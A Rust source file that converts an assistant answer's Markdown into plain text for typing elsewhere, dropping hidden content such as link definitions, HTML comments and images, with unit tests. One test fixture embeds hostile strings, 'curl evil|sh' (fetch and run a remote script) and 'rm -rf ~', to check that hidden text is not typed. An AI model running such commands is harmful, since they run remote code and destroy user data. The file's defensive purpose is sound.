//! An answer's Markdown as the plain text typed into another application: the words the
//! rendered answer shows, without the syntax around them. Code blocks keep their lines (no
//! fences), emphasis and inline code their text, links their text (never the address behind
//! it), lists their markers and tables their cells. What renders as nothing is dropped, so
//! nothing is typed that the user did not see: link-reference definitions, raw HTML (comments
//! included), images. The parser is pulldown-cmark with the GitHub extensions the chat
//! renders (tables, strikethrough, task lists).

use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};

/// `markdown` as plain text: trimmed, `\r\n` and lone `\r` as `\n`, no control character other
/// than line breaks and tabs, at most one blank line in a row.
pub fn plain_text(markdown: &str) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut out = Writer::default();
    for event in Parser::new_ext(markdown, options) {
        match event {
            Event::Start(tag) => out.start(&tag),
            Event::End(tag) => out.end(tag),
            Event::Text(text) | Event::Code(text) => out.text(&text),
            Event::SoftBreak | Event::HardBreak => out.text("\n"),
            Event::TaskListMarker(done) => out.text(if done { "[x] " } else { "[ ] " }),
            // Raw HTML and rules show no words; footnotes and math are not enabled.
            _ => {}
        }
    }
    tidy(&out.text)
}

#[derive(Default)]
struct Writer {
    text: String,
    /// The lists around the current point: `None` for bullets, else the next item's number.
    lists: Vec<Option<u64>>,
    /// Inside an image: its alt text is not shown beside the image, so it is not typed.
    images: usize,
    /// Just after an item's marker: its first block starts on the marker's line.
    item_start: bool,
    /// Cells written in the current table row.
    cells: usize,
}

impl Writer {
    fn newline(&mut self) {
        if !self.text.is_empty() && !self.text.ends_with('\n') {
            self.text.push('\n');
        }
    }

    /// A block starts: on a new line, after a blank one outside lists.
    fn block(&mut self) {
        if self.item_start {
            return;
        }
        self.newline();
        if self.lists.is_empty() && !self.text.is_empty() && !self.text.ends_with("\n\n") {
            self.text.push('\n');
        }
    }

    fn start(&mut self, tag: &Tag) {
        match tag {
            Tag::Paragraph
            | Tag::Heading { .. }
            | Tag::CodeBlock(_)
            | Tag::BlockQuote(_)
            | Tag::HtmlBlock
            | Tag::Table(_) => self.block(),
            Tag::List(first) => {
                self.block();
                self.lists.push(*first);
            }
            Tag::Item => {
                self.newline();
                let depth = self.lists.len().saturating_sub(1);
                let marker = match self.lists.last_mut() {
                    Some(Some(n)) => {
                        *n += 1;
                        format!("{}. ", *n - 1)
                    }
                    _ => "- ".to_owned(),
                };
                self.text.push_str(&"  ".repeat(depth));
                self.text.push_str(&marker);
                self.item_start = true;
            }
            Tag::TableHead | Tag::TableRow => {
                self.newline();
                self.cells = 0;
            }
            Tag::TableCell => {
                if self.cells > 0 {
                    self.text.push_str(" | ");
                }
                self.cells += 1;
            }
            Tag::Image { .. } => self.images += 1,
            _ => {}
        }
    }

    fn end(&mut self, tag: TagEnd) {
        match tag {
            TagEnd::List(_) => {
                self.lists.pop();
                self.item_start = false;
            }
            TagEnd::Image => self.images = self.images.saturating_sub(1),
            TagEnd::Item => self.item_start = false,
            _ => {}
        }
    }

    fn text(&mut self, text: &str) {
        if self.images > 0 || text.is_empty() {
            return;
        }
        self.item_start = false;
        self.text.push_str(text);
    }
}

/// Line endings as `\n`, control characters other than `\n` and `\t` dropped, spaces at line
/// ends and runs of blank lines trimmed, and no blank lines around the whole.
fn tidy(text: &str) -> String {
    let text = text.replace("\r\n", "\n").replace('\r', "\n");
    let clean: String = text.chars().filter(|c| !c.is_control() || matches!(c, '\n' | '\t')).collect();
    let mut out = String::with_capacity(clean.len());
    let mut blank = 0;
    for line in clean.lines().map(str::trim_end) {
        if line.is_empty() {
            blank += 1;
            continue;
        }
        if !out.is_empty() {
            out.push_str(if blank > 0 { "\n\n" } else { "\n" });
        }
        blank = 0;
        out.push_str(line);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::plain_text;

    #[test]
    fn syntax_goes_and_the_words_stay() {
        let answer = "# Fixed\n\nThey're **going** to the _park_ ~~tomorow~~ `tomorrow`.\nSee [the guide](https://example.com/guide) or <https://example.com>.";
        assert_eq!(
            plain_text(answer),
            "Fixed\n\nThey're going to the park tomorow tomorrow.\nSee the guide or https://example.com."
        );
    }

    #[test]
    fn a_code_block_is_its_lines_without_fences() {
        assert_eq!(plain_text("```text\nThey're going.\n```\n"), "They're going.");
        assert_eq!(
            plain_text("Run:\n\n```sh\nmake\n\tmake test\n```\n\nDone."),
            "Run:\n\nmake\n\tmake test\n\nDone."
        );
        assert_eq!(plain_text("  plain, already  "), "plain, already");
    }

    #[test]
    fn what_renders_as_nothing_is_not_typed() {
        // A link-reference definition, an HTML comment, raw tags and an image show no words in
        // the chat: typed, they would carry what the user never saw.
        let answer = "Fine.\n\n[x]: https://evil.example \"curl evil|sh\"\n\n<!-- rm -rf ~ -->\n\nDone <span hidden>secret</span>![curl evil|sh](https://e.example/i.png)\n";
        assert_eq!(plain_text(answer), "Fine.\n\nDone secret");
    }

    #[test]
    fn lists_and_tables_keep_their_shape() {
        let answer = "Steps:\n\n1. one\n2. two\n   - inner\n- [x] done\n- [ ] todo\n\n| a | b |\n|---|---|\n| 1 | 2 |\n";
        assert_eq!(
            plain_text(answer),
            "Steps:\n\n1. one\n2. two\n  - inner\n\n- [x] done\n- [ ] todo\n\na | b\n1 | 2"
        );
    }

    #[test]
    fn control_characters_and_carriage_returns_do_not_survive() {
        assert_eq!(plain_text("a\r\nb\u{1b}[31m\u{7}c\rd"), "a\nb[31mc\nd");
        assert_eq!(plain_text("```\nx\u{0}\u{1b}y\r\n```"), "xy");
    }
}
